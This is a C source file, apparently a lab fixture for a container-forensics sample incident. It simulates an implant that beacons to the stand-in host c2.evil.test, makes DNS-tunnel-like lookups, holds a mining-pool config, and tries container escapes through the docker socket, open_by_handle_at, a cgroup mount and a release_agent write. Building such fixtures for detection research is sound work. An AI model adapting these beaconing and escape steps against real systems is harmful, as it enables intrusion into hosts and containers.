/* SPDX-License-Identifier: Apache-2.0 */
/*
 * implant.c: the harmless "tool" the sample incident's container
 * downloads and runs (datasets/sample-incident/README.md). It beacons to
 * c2.evil.test:8080 every second (12 times), looks up long random names under
 * t.evil.test (DNS-tunnel-like), tries a few escapes that an unprivileged
 * container refuses (open_by_handle_at, the docker socket, a cgroup mount,
 * a user namespace), writes a release_agent file of its own, then waits
 * to be dumped (gcore) and killed. Everything stays inside the lab network
 * namespace; nothing reaches a real host.
 *
 * Build: gcc -O1 -static -o implant implant.c
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <netdb.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static char config[] =
    "{\"url\":\"stratum+tcp://pool.evil.test:3333\",\"user\":\"drydock-demo\"}";

static void
beacon(const struct addrinfo *ai, int i)
{
	char req[160], buf[512];
	int s = socket(ai->ai_family, SOCK_STREAM, 0);

	if (s < 0)
		return;
	if (connect(s, ai->ai_addr, ai->ai_addrlen) == 0) {
		int n = snprintf(req, sizeof(req), "GET /beacon?n=%d HTTP/1.0\r\n"
		    "Host: c2.evil.test\r\nUser-Agent: implant/0.1\r\n\r\n", i);
		if (write(s, req, (size_t)n) == n)
			while (read(s, buf, sizeof(buf)) > 0)
				;
	}
	close(s);
}

static void
tunnel(int i)
{
	static const char hex[] = "0123456789abcdef";
	char name[128], *p = name;
	struct addrinfo hints, *res = NULL;
	unsigned v = 0x9e3779b9u * (unsigned)(i + 7);

	for (int k = 0; k < 40; k++) {
		v = v * 1103515245u + 12345u;
		*p++ = hex[(v >> 16) & 15];
		if (k == 27)
			*p++ = '.';
	}
	strcpy(p, ".t.evil.test");
	memset(&hints, 0, sizeof(hints));
	hints.ai_family = AF_INET;
	if (getaddrinfo(name, "53", &hints, &res) == 0)
		freeaddrinfo(res);
}

static void
escapes(void)
{
	struct sockaddr_un sa;
	struct file_handle *fh = calloc(1, sizeof(*fh) + 128);
	int s, fd;

	fh->handle_bytes = 8;
	fd = open_by_handle_at(AT_FDCWD, fh, O_RDONLY);
	if (fd >= 0)
		close(fd);
	free(fh);
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	strcpy(sa.sun_path, "/var/run/docker.sock");
	connect(s, (struct sockaddr *)&sa, sizeof(sa));
	close(s);
	mkdir("/tmp/cg", 0700);
	mount("cgroup", "/tmp/cg", "cgroup", 0, "rdma");
	unshare(CLONE_NEWUSER | CLONE_NEWNS);
	fd = open("/tmp/cg/release_agent", O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (fd >= 0) {
		if (write(fd, "/tmp/.x/payload\n", 16) < 0)
			perror("write");
		close(fd);
	}
}

int
main(void)
{
	struct addrinfo hints, *res = NULL;

	(void)config;
	memset(&hints, 0, sizeof(hints));
	hints.ai_family = AF_INET;
	hints.ai_socktype = SOCK_STREAM;
	escapes();
	if (getaddrinfo("c2.evil.test", "8080", &hints, &res) != 0)
		return 1;
	for (int i = 0; i < 12; i++) {
		beacon(res, i);
		tunnel(2 * i);
		tunnel(2 * i + 1);
		sleep(1);
	}
	freeaddrinfo(res);
	/* wait for gcore and the end of the recording */
	for (;;)
		pause();
}
